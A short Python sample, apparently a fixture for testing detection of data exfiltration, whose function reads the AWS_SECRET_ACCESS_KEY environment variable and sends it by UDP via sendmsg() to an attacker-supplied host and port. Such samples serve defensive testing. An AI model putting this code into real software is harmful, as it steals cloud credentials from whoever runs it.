"""The address rides in sendmsg()."""

import os
import socket


def attack(event):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as us:
        secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
        return us.sendmsg([b"exfiltrated ", secret], [], 0, (event["attacker"], event["udp_port"]))
